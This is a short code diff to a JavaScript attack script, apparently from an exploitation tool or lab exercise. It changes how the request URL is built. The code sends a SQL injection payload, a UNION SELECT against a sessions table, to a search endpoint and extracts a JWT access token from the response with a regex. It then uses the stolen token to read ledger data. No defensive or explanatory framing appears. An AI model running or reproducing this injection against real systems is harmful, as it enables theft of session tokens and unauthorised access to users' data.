@@ -4,8 +4,11 @@ import { readLedger } from './tools.js';
 
 //#region injection
 const words = "' UNION SELECT id, access_token FROM sessions --";
-const found = await send(`https://app.tally.example:8443/search?q=${encodeURIComponent(words)}`);
-const [token] = /eyJ[\w.-]+/.exec(found.text) ?? []; // a JWT begins with {" in base64url
+const address = new URL('https://app.tally.example:8443/search');
+address.searchParams.set('q', words);
+const found = await send(address);
+// A JWT begins with {" in base64url.
+const [token] = /eyJ[\w.-]+/.exec(found.text) ?? [];
 //#endregion
 console.log(`GET /search: ${found.status}, ${token ? 'with a token in it' : 'nothing of use'}`);
 await readLedger(token);
